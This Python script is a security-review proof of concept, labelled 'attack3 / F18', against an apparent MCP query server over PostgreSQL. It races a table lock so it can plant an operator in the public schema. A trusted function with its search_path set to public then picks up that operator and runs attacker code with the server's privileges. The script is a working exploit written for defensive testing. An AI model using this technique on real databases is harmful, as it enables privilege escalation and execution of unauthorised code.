"""attack3 / F18: open_schema_body only knows the open schemas of the SESSION's search path
(facts.py CATALOG computes CREATORS only `WHEN n.nspname = ANY (current_schemas(true))`). A
trusted function whose own `SET search_path` names a schema that is open but not on the
session's path (here the server role's path is `app`; the DBA's function says
`SET search_path = public`, the docs' own advice, and public has legacy CREATE) is therefore not
refused, and its body, whose names resolve when it runs, is parsed after F14's hold (no
privilege: `pg_relation_size(c.oid)` over the attacker's locked table): an exact-match
`public.=(mood, mood)` planted during the hold runs inside it as the server. Deterministic.
`static`: the operator planted before the call (control: refused, untrusted_owner).

Usage (bed and setup.py first, see README.md):
  PYTHONPATH=tests:security-review uv run python security-review/offpath_body.py [race|static]"""
import asyncio, json, sys, time
import asyncpg
from mcpclient import connect
from common import DSN, as_role, tool
from custom_body import ADMIN as FEELINGS, ATK

ADMIN = FEELINGS + r"""
DROP SCHEMA IF EXISTS app CASCADE; CREATE SCHEMA app; GRANT USAGE ON SCHEMA app TO reader;
CREATE FUNCTION app.fine_count() RETURNS bigint STABLE LANGUAGE sql SET search_path = public
    AS $$SELECT count(*) FROM feelings WHERE m = 'fine'$$;
ALTER ROLE reader SET search_path = app;
"""
SQL = ("SELECT s.sz, app.fine_count() AS {n} FROM (SELECT pg_catalog.pg_relation_size(c.oid) AS sz "
       "FROM pg_catalog.pg_class c WHERE c.relname = 'zz_size_hold' OFFSET 0) s")


async def main(mode: str) -> None:
    adm = await asyncpg.connect(DSN); await adm.execute(ADMIN)
    a = await asyncpg.connect(as_role("attacker"))
    await a.execute("DROP OPERATOR IF EXISTS public.= (public.mood, public.mood); "
                    "DROP TABLE IF EXISTS public.zz_size_hold; CREATE TABLE public.zz_size_hold (x int)")
    b = await asyncpg.connect(as_role("attacker"))
    try:
        async with connect(as_role("reader")) as c:
            ok, body = await tool(c, "execute_query", sql=SQL.format(n="n"))
            print("baseline:", ok, json.dumps(body.get("rows", body.get("error")))[:300])
            ok, body = await tool(c, "execute_query", sql="SELECT pg_catalog.current_setting('search_path') AS p")
            print("server session search_path:", json.dumps(body.get("rows", body))[:100])
            before = await adm.fetchval("SELECT pg_current_xact_id()::text")
            if mode == "static":
                await b.execute(ATK)
                ok, body = await tool(c, "execute_query", sql=SQL.format(n="n_static"))
                print("static call:", ok, json.dumps(body.get("error", body))[:300])
            else:
                await a.execute("BEGIN; LOCK TABLE public.zz_size_hold IN ACCESS EXCLUSIVE MODE")
                call = asyncio.create_task(tool(c, "execute_query", sql=SQL.format(n="n_fresh")))
                t0, waiting = time.monotonic(), None
                while time.monotonic() - t0 < 10 and not waiting:
                    waiting = await adm.fetchrow(
                        "SELECT a.pid, l.relation::regclass::text AS rel, l.mode FROM pg_stat_activity a "
                        "JOIN pg_locks l ON l.pid = a.pid WHERE a.usename = 'reader' "
                        "AND a.wait_event_type = 'Lock' AND NOT l.granted")
                    await asyncio.sleep(0.01)
                print("server backend waiting:", dict(waiting) if waiting else None)
                await b.execute(ATK)  # public.=(mood, mood) -> atk.mood_eq, which raises PWNED
                print("planted public.=(mood, mood), committed")
                await a.execute("COMMIT")
                ok, body = await call
                print("call:", ok, json.dumps(body.get("error", body.get("rows", body)))[:300])
            after = await adm.fetchval("SELECT pg_current_xact_id()::text")
            print("next xid before/after (admin session, 1 each):", before, after)
    finally:
        await adm.execute("ALTER ROLE reader RESET search_path")
        await b.execute("DROP OPERATOR IF EXISTS public.= (public.mood, public.mood); "
                        "DROP TABLE IF EXISTS public.zz_size_hold")
        for x in (a, b, adm):
            await x.close()

if __name__ == "__main__":
    asyncio.run(main(sys.argv[1] if len(sys.argv) > 1 else "race"))
